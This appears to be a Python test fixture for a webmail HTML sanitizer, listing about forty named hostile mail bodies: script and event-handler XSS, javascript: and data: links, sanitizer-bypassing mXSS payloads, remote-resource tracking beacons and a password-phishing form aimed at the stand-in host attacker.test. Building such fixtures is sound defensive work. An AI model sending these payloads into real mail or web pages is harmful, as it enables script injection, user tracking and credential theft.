"""HTML mail bodies carrying XSS and tracking vectors, each marked with its name.

Every vector tries to run ``alert('xss-NAME')`` (or another hooked call) or to make the
browser fetch ``http://attacker.test/NAME``. fires_raw says whether Chromium runs or
fetches it when the HTML is opened as it is (no sanitizer, no CSP, no sandbox): the
control test proves the hooks catch those, so their silence in the webmail means something.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Vector:
    """One hostile HTML body."""

    name: str
    html: str
    fires_raw: bool


def _v(name: str, html: str, fires_raw: bool = True) -> Vector:
    return Vector(name, html.replace("NAME", name), fires_raw)


VECTORS: tuple[Vector, ...] = (
    _v("script", "<p>hi</p><script>alert('xss-NAME')</script>"),
    _v("img-onerror", "<img src=x onerror=\"alert('xss-NAME')\">"),
    _v("body-onload", "<body onload=\"alert('xss-NAME')\"><p>x</p></body>"),
    _v("svg-onload", "<svg onload=\"alert('xss-NAME')\"><circle r=5 /></svg>"),
    _v("svg-script", "<svg><script>alert('xss-NAME')</script></svg>"),
    _v(
        "svg-animate-href",
        "<svg><a><animate attributeName=href values=\"javascript:alert('xss-NAME')\"/><text y=20>t</text></a></svg>",
        fires_raw=False,
    ),
    _v("javascript-link", "<a href=\"javascript:alert('xss-NAME')\">click me</a>", fires_raw=False),
    _v("javascript-link-entities", '<a href="jav&#x09;ascript&colon;alert(1)">x</a>', fires_raw=False),
    _v("data-link", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">open</a>', fires_raw=False),
    _v("data-iframe", "<iframe src=\"data:text/html,<script>alert('xss-NAME')</script>\"></iframe>"),
    _v("srcdoc-iframe", "<iframe srcdoc=\"<script>parent.alert('xss-NAME')</script>\"></iframe>"),
    _v("object-data", '<object data="http://attacker.test/NAME.swf"></object>', fires_raw=False),
    _v("embed", '<embed src="http://attacker.test/NAME.swf">', fires_raw=False),
    _v("css-expression", "<div style=\"width: expression(alert('xss-NAME'))\">ie</div>", fires_raw=False),
    _v("style-url", '<div style="background-image: url(http://attacker.test/NAME.png)">bg</div>'),
    _v("style-block", "<style>body { background: url(http://attacker.test/NAME.png) }</style><p>x</p>"),
    _v("style-import", "<style>@import url(http://attacker.test/NAME.css);</style><p>x</p>"),
    _v("link-stylesheet", '<link rel="stylesheet" href="http://attacker.test/NAME.css"><p>x</p>'),
    _v("meta-refresh", '<meta http-equiv="refresh" content="0;url=http://attacker.test/NAME"><p>x</p>'),
    _v("meta-refresh-js", '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss-NAME\')">', False),
    _v("base-href", '<base href="http://attacker.test/"><img src="NAME.png"><a href="NAME">rel</a>'),
    _v("remote-image", '<img src="http://attacker.test/NAME.gif" width=1 height=1>'),
    _v("img-srcset", '<img srcset="http://attacker.test/NAME.png 1x">'),
    _v("table-background", '<table background="http://attacker.test/NAME.png"><tr><td>t</td></tr></table>'),
    _v("video-poster", '<video poster="http://attacker.test/NAME.png"></video>'),
    _v("input-image", '<input type="image" src="http://attacker.test/NAME.png">'),
    _v(
        "form-phish",
        '<form action="http://attacker.test/NAME"><input name="password"><button>Log in</button></form>',
        False,
    ),
    # The mXSS payloads need a sanitizer's parse-serialize round trip to fire, not a plain parse.
    _v("mxss-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=\"alert('xss-NAME')\">", False),
    _v("mxss-svg-style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert('xss-NAME')>\">"),
    _v(
        "mxss-form-math",
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
        "<img onerror=alert('xss-NAME') src>\">",
        fires_raw=False,
    ),
    _v("mxss-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-NAME')>\"></noscript>"),
    _v("malformed-quotes", '<img """><script>alert(\'xss-NAME\')</script>">'),
    _v("malformed-nested", "<<script>alert('xss-NAME');//<</script>"),
    _v("malformed-split", "<scr<script>ipt>alert('xss-NAME')</scr</script>ipt>", fires_raw=False),
    _v("mixed-case", "<IMG SRC=x OnErRoR=\"alert('xss-NAME')\">"),
    _v("slash-attribute", "<img/src=x/onerror=\"alert('xss-NAME')\">", fires_raw=False),
    _v("details-ontoggle", "<details open ontoggle=\"alert('xss-NAME')\"><summary>s</summary></details>"),
    _v("template-smuggle", "<template><script>alert('xss-NAME')</script></template><p>t</p>", False),
    _v("comment-break", "<!--<img src=\"--><img src=x onerror=alert('xss-NAME')//\">"),
)
